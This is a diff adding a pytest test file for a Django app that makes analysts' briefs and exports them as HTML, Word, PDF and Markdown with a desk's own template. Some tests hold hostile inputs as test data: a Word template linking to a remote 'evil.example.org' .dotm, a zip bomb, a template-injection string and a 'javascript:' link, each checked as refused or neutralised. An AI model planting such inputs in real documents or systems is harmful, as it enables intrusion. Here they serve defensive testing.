@@ -1,0 +1,370 @@
+"""Briefs on their pages: made, kept word for word, sent in every format; a desk's own template."""
+
+import datetime
+import io
+import re
+import uuid
+import zipfile
+from typing import Any
+
+import docx
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import IntegrityError, connection, transaction
+from django.test import Client
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from docx.oxml.ns import qn
+from pypdf import PdfReader
+
+from relations.actions.briefs import keep_brief
+from relations.briefs import pdf as pdf_maker
+from relations.briefs.content import thawed
+from relations.briefs.markdown import plain
+from relations.models import Brief, BriefTemplate, Issue, Relationship, Statement, User
+from relations.models.base import moment
+from relations.reports.brief import ISSUES
+from tests import factories, making
+
+pytestmark = pytest.mark.django_db
+
+
+def address(name: str, desk: Relationship, *args: str) -> str:
+    return reverse(name, args=[desk.slug, *args])
+
+
+def posted(client: Client, desk: Relationship, **typed: Any) -> Any:
+    given = {"kind": "brief", "up_to": "CLEAR", "token": str(uuid.uuid4())}
+    return client.post(address("brief_new", desk), given | typed)
+
+
+def made(client: Client, desk: Relationship, **typed: Any) -> Brief:
+    answer = posted(client, desk, **{"title": "The title", **typed})
+    assert answer.status_code == 302
+    return Brief.objects.get(ref=answer["Location"].rstrip("/").rpartition("/")[2])
+
+
+def sent(client: Client, brief: Brief, kind: str) -> Any:
+    return client.get(reverse("brief_file", args=[brief.relationship.slug, brief.ref, kind]))
+
+
+def template(*lines: str, head: str = "{{ marking }}") -> bytes:
+    document = docx.Document()
+    document.sections[0].header.paragraphs[0].text = head
+    for line in lines:
+        document.add_paragraph(line)
+    written = io.BytesIO()
+    document.save(written)
+    return written.getvalue()
+
+
+def uploaded(client: Client, desk: Relationship, content: bytes, name: str = "letterhead.docx") -> Any:
+    return client.post(address("brief_template", desk), {"file": SimpleUploadedFile(name, content)})
+
+
+def test_a_brief_keeps_what_it_said_and_says_what_was_corrected_since(
+    as_analyst: Client, desk: Relationship, published: Statement, analyst: User, reviewer: User
+) -> None:
+    brief = made(as_analyst, desk)
+    before = {kind: sent(as_analyst, brief, kind).content for kind in ("html", "docx", "md")}
+    assert b"Corrected or withdrawn since" not in as_analyst.get(brief.get_absolute_url()).content
+    from relations.actions.statements import correct_statement
+
+    draft = correct_statement(actor=analyst, statement=published)
+    factories.rewritten(draft, analyst, "Türkiye refuses the sanctions.")
+    factories.publish(draft, analyst, reviewer)
+    page = as_analyst.get(brief.get_absolute_url()).content.decode()
+    assert published.text in page
+    assert "Türkiye refuses" not in page
+    assert "Corrected or withdrawn since this brief was made" in page
+    assert "1 source corrected or withdrawn since" in as_analyst.get(address("brief_list", desk)).content.decode()
+    for kind, content in before.items():
+        assert sent(as_analyst, brief, kind).content == content
+
+
+def test_a_stored_brief_is_never_changed_or_deleted(
+    as_analyst: Client, desk: Relationship, published: Statement
+) -> None:
+    brief = made(as_analyst, desk)
+    for change in ({"title": "Another"}, {"content": "{}"}, {"marking": "RED"}):
+        with pytest.raises(IntegrityError), transaction.atomic():
+            Brief.objects.filter(pk=brief.pk).update(**change)
+    with pytest.raises(IntegrityError, match="kept"), transaction.atomic():
+        Brief.objects.filter(pk=brief.pk).delete()
+
+
+def test_every_format_is_a_download_that_says_for_whom_and_tells_the_same(
+    as_analyst: Client, desk: Relationship, published: Statement
+) -> None:
+    brief = made(as_analyst, desk, title="Talks: “Ankara”/İstanbul", up_to="AMBER+STRICT")
+    texts = {}
+    for kind in ("html", "docx", "pdf", "md"):
+        answer = sent(as_analyst, brief, kind)
+        assert answer.status_code == 200
+        name = answer["Content-Disposition"]
+        assert name.startswith('attachment; filename="us-turkiye-brief-talks-ankaraistanbul-tlp-amber-strict-20')
+        texts[kind] = answer.content
+    assert b"<script" not in texts["html"]
+    assert b"TLP:AMBER+STRICT" in texts["html"]
+    document = docx.Document(io.BytesIO(texts["docx"]))
+    pages = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(texts["pdf"])).pages)
+    word = " ".join(each.text for each in document.paragraphs)
+    assert document.sections[0].header.paragraphs[0].text == "TLP:AMBER+STRICT"
+    for text in (texts["html"].decode(), texts["md"].decode(), word, " ".join(pages.split())):
+        assert "Türkiye wants the sanctions lifted." in text
+        assert "Only Türkiye has spoken." in text
+    assert sent(as_analyst, brief, "exe").status_code == 404
+
+
+def test_the_word_document_has_real_headings_tables_endnotes_and_a_picture(
+    as_analyst: Client, desk: Relationship, published: Statement
+) -> None:
+    content = sent(as_analyst, made(as_analyst, desk), "docx").content
+    document = docx.Document(io.BytesIO(content))
+    heads = [each.text for each in document.paragraphs if each.style and each.style.name == "Heading 1"]
+    assert heads == [
+        "Summary",
+        "CAATSA sanctions",
+        "What this rests on",
+        "Check of the desk’s own words (ICD 203)",
+        "Sources",
+    ]
+    assert len(document.inline_shapes) == 1
+    (table,) = document.tables
+    assert [cell.text for cell in table.rows[0].cells] == ["Issue", "Where it stands", "United States", "Türkiye"]
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        endnotes = package.read("word/endnotes.xml").decode()
+        assert {part.date_time[0] for part in package.infolist()} == {1980}  # no stamp of its own
+    assert "The Daily" in endnotes
+    assert "Credibility: 2 Probably" in endnotes
+    references = list(document.element.body.iter(qn("w:endnoteReference")))
+    assert len(references) == 1  # told again by a field that repeats its number
+    assert "NOTEREF _Source1" in "".join(each.text or "" for each in document.element.body.iter(qn("w:instrText")))
+
+
+def test_readers_see_a_brief_of_published_content_alone(
+    as_analyst: Client, as_reader: Client, desk: Relationship, published: Statement
+) -> None:
+    own = made(as_analyst, desk, title="With the desk’s own", own_work="on")
+    open_to_all = made(as_analyst, desk, title="Of what is published")
+    assert as_reader.get(own.get_absolute_url()).status_code == 404
+    assert sent(as_reader, own, "md").status_code == 404
+    assert as_reader.get(open_to_all.get_absolute_url()).status_code == 200
+    page = as_reader.get(address("brief_list", desk)).content.decode()
+    assert open_to_all.title in page
+    assert own.title not in page
+    assert as_reader.get(address("brief_new", desk)).status_code == 404
+
+
+def test_a_form_sent_twice_makes_one_brief(as_analyst: Client, desk: Relationship, issue: Issue) -> None:
+    token = "6f6a2f0e-24e4-4e4c-9c62-111111111111"
+    assert made(as_analyst, desk, token=token) == made(as_analyst, desk, token=token)
+    assert Brief.objects.count() == 1
+
+
+REFUSED: list[tuple[dict[str, Any], str]] = [
+    ({"since": "2025-03-25", "until": "2025-03-24"}, "The last day cannot come before the first."),
+    ({"until": "9999-12-31"}, "This day lies in the future."),
+    ({"known": "2999-01-01"}, "This day lies in the future."),
+    ({"since": "2025-02-30"}, "Enter a valid date."),
+    ({"title": "x" * 301}, "at most 300 characters"),
+    ({"kind": "novel"}, "Select a valid choice"),
+    ({"up_to": "PURPLE"}, "Select a valid choice"),
+    ({"issues": ["nothing-here"]}, "Select a valid choice"),
+    ({"meeting": "nothing-here"}, "Select a valid choice"),
+]
+
+
+def test_what_cannot_be_made_is_refused_at_its_field(as_analyst: Client, desk: Relationship, issue: Issue) -> None:
+    for typed, said in REFUSED:
+        answer = posted(as_analyst, desk, **typed)
+        assert answer.status_code == 422, typed
+        assert said in answer.content.decode(), typed
+    assert not Brief.objects.exists()
+
+
+def test_more_issues_than_a_document_holds_are_refused_with_the_number(
+    as_analyst: Client, desk: Relationship, analyst: User
+) -> None:
+    Issue.objects.bulk_create(
+        Issue(relationship=desk, title=f"Issue {number}", slug=f"i-{number}", author=analyst, edited_by=analyst)
+        for number in range(500)
+    )
+    answer = posted(as_analyst, desk)
+    assert answer.status_code == 422
+    assert f"A brief holds up to {ISSUES} issues." in answer.content.decode()
+
+
+def test_the_longest_titles_and_strangest_characters_come_out_in_every_format(
+    as_analyst: Client, desk: Relationship, analyst: User, reviewer: User
+) -> None:
+    odd = "\x0b\x1f\u202e<b>*_|[x](y) “"
+    title = (odd + "ş" * 300)[:300]
+    issue = factories.make_issue(desk, title)
+    factories.make_published(issue, analyst, reviewer, text="Says\x0cso " + "long " * 400)
+    brief = made(as_analyst, desk, title="ğ" * 300)
+    for kind in ("html", "docx", "pdf", "md"):
+        assert sent(as_analyst, brief, kind).status_code == 200, kind
+    assert "<b>" not in sent(as_analyst, brief, "html").content.decode()
+
+
+def test_a_brief_with_nothing_in_it_is_a_document_that_says_so(as_analyst: Client, desk: Relationship) -> None:
+    brief = made(as_analyst, desk, title="")
+    assert brief.title == "Brief: United States – Türkiye"
+    for kind in ("docx", "md"):
+        assert sent(as_analyst, brief, kind).status_code == 200
+    assert "This brief holds no issue" in as_analyst.get(brief.get_absolute_url()).content.decode()
+
+
+def test_without_the_system_library_of_pdf_the_page_says_what_to_do(
+    as_analyst: Client, desk: Relationship, issue: Issue, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import builtins
+
+    ordinary = builtins.__import__
+
+    def without(name: str, *args: Any, **kwargs: Any) -> Any:
+        if name == "weasyprint":
+            raise OSError("cannot load library 'libpango-1.0-0'")
+        return ordinary(name, *args, **kwargs)
+
+    brief = made(as_analyst, desk)
+    monkeypatch.setattr(builtins, "__import__", without)
+    answer = sent(as_analyst, brief, "pdf")
+    assert answer["Location"] == brief.get_absolute_url()
+    monkeypatch.undo()
+    assert "this server lacks the library Pango" in as_analyst.get(brief.get_absolute_url()).content.decode()
+    assert pdf_maker.NoPango.__doc__
+
+
+def test_the_list_takes_the_same_queries_for_one_brief_and_many(
+    as_analyst: Client, desk: Relationship, analyst: User, published: Statement
+) -> None:
+    def taken() -> int:
+        with CaptureQueriesContext(connection) as queries:
+            as_analyst.get(address("brief_list", desk))
+        return len(queries)
+
+    first = made(as_analyst, desk)
+    taken()  # the first look of the day is recorded as a visit
+    assert taken() == 7
+    for number in range(29):
+        keep_brief(
+            actor=analyst, relationship=desk, kind="brief", title=f"Brief {number}", marking="CLEAR", asked={},
+            made=moment(), known=first.known, content=first.content, cites=[published.ref], holds_own_work=False,
+        )  # fmt: skip
+    assert taken() == 7
+
+
+def test_what_the_form_offers_starts_from_the_address(as_analyst: Client, desk: Relationship, issue: Issue) -> None:
+    page = as_analyst.get(address("brief_new", desk), {"kind": "handover", "issues": issue.slug, "until": "2025-03-26"})
+    text = page.content.decode()
+    assert re.search(r'value="handover"[^>]*checked', text)
+    assert re.search(rf'value="{issue.slug}"[^>]*checked', text)
+    assert 'value="2025-03-26"' in text
+
+
+# A desk's own template
+
+
+def test_new_briefs_are_written_into_the_desks_template_and_old_ones_stay(
+    as_analyst: Client, signed_in: Any, lead: User, desk: Relationship, published: Statement
+) -> None:
+    as_lead = signed_in(lead)
+    plain_one = made(as_analyst, desk)
+    before = sent(as_analyst, plain_one, "docx").content
+    answer = uploaded(
+        as_lead,
+        desk,
+        template("Ministry of Foreign Affairs", "{{ title }} ({{ made }})", "{{ brief }}", "Kind regards"),
+    )
+    assert answer.status_code == 302
+    framed = made(as_analyst, desk)
+    lines = [each.text for each in docx.Document(io.BytesIO(sent(as_analyst, framed, "docx").content)).paragraphs]
+    assert lines[:2] == ["Ministry of Foreign Affairs", f"The title ({thawed(framed.content).made})"]
+    assert lines[-1] == "Kind regards"
+    assert "CAATSA sanctions" in lines
+    assert not any("{{" in line for line in lines)
+    assert sent(as_analyst, plain_one, "docx").content == before
+    # Taken out of use, it still frames the briefs that were made with it.
+    as_lead.post(address("brief_template", desk), {"remove": "1"})
+    kept = docx.Document(io.BytesIO(sent(as_analyst, framed, "docx").content))
+    assert kept.paragraphs[0].text == "Ministry of Foreign Affairs"
+    assert made(as_analyst, desk).template is None
+
+
+UNFIT: list[tuple[bytes, str]] = [
+    (b"Not a Word document", "not a Word document that can be read"),
+    (making.pdf("A page"), "not a Word document that can be read"),
+    (b"PK\x03\x04broken", "not a Word document that can be read"),
+    (making.bomb(), "unpacks to more"),
+    (template("{{ brief }}", "{{ salary }}"), "No brief has a field “salary”"),
+    (template("{{ brief }}", "{% for x in y %}"), "No brief has a field “{% for x in y %}”"),
+    (template("{{ brief }}", "{{ ''.__class__ }}"), "No brief has a field"),
+    (template("No field at all"), "lacks the field {{ brief }}"),
+    (template("{{ brief }}", head="Ministry"), "lacks the field {{ marking }}"),
+    (template("Here: {{ brief }}"), "on a line of its own"),
+    (b"PK\x03\x04" + b"\0" * 1_100_000, "up to 1 MB"),
+    (b"", "empty"),
+]
+
+
+def test_a_file_that_can_frame_no_brief_is_refused_with_the_reason(
+    signed_in: Any, lead: User, desk: Relationship
+) -> None:
+    as_lead = signed_in(lead)
+    for content, said in UNFIT:
+        answer = uploaded(as_lead, desk, content)
+        assert answer.status_code == 422, said
+        assert said in answer.content.decode().replace("&#x27;", "'"), said
+    assert not BriefTemplate.objects.exists()
+
+
+def test_a_template_that_fetches_something_when_opened_is_refused(
+    signed_in: Any, lead: User, desk: Relationship
+) -> None:
+    document = docx.Document(io.BytesIO(template("{{ brief }}")))
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    document.part.relate_to("https://evil.example.org/x.dotm", kind, is_external=True)
+    written = io.BytesIO()
+    document.save(written)
+    answer = uploaded(signed_in(lead), desk, written.getvalue())
+    assert answer.status_code == 422
+    assert "fetches something from elsewhere" in answer.content.decode()
+
+
+def test_only_the_head_of_desk_changes_the_template(as_reviewer: Client, desk: Relationship) -> None:
+    assert uploaded(as_reviewer, desk, template("{{ brief }}")).status_code == 404
+
+
+def test_markdown_reads_as_the_text_does() -> None:
+    assert plain("# 1. *a* _b_ [c](d) <e> | f\n- g") == r"\# 1. \*a\* \_b\_ \[c\](d) \<e\> \| f - g"
+
+
+def test_the_days_chosen_are_kept_with_the_brief(as_analyst: Client, desk: Relationship, issue: Issue) -> None:
+    brief = made(as_analyst, desk, since="2025-01-01", until="2025-03-26", known="2025-03-26")
+    assert brief.parameters == {
+        "meeting": "", "since": "2025-01-01", "until": "2025-03-26", "known": "2025-03-26", "own_work": False,
+        "issues": [issue.slug],
+    }  # fmt: skip
+    assert brief.known == datetime.datetime(2025, 3, 26, 21, 0, tzinfo=datetime.UTC)  # the day ends in Istanbul
+
+
+def test_a_loaded_brief_that_holds_no_briefs_words_is_not_there_instead_of_an_error(
+    as_analyst: Client, desk: Relationship, analyst: User, published: Statement
+) -> None:
+    good = made(as_analyst, desk)
+    for content in ("{}", "[]", "no JSON", good.content.replace('"The title"', "5")):
+        bad = Brief.objects.create(relationship=desk, author=analyst, title="Bad", known=moment(), content=content)
+        for url in (bad.get_absolute_url(), reverse("brief_file", args=[desk.slug, bad.ref, "docx"])):
+            assert as_analyst.get(url).status_code == 404
+    sneaky = good.content.replace("https://news", "javascript://news")
+    bad = Brief.objects.create(relationship=desk, author=analyst, title="Bad", known=moment(), content=sneaky)
+    assert 'href="javascript' not in as_analyst.get(bad.get_absolute_url()).content.decode()
+
+
+def test_texts_of_any_length_are_cut_to_what_a_brief_holds(
+    as_analyst: Client, desk: Relationship, issue: Issue, analyst: User, reviewer: User
+) -> None:
+    factories.make_published(issue, analyst, reviewer, text="words " * 3000)
+    assert len(made(as_analyst, desk).content) < 8000
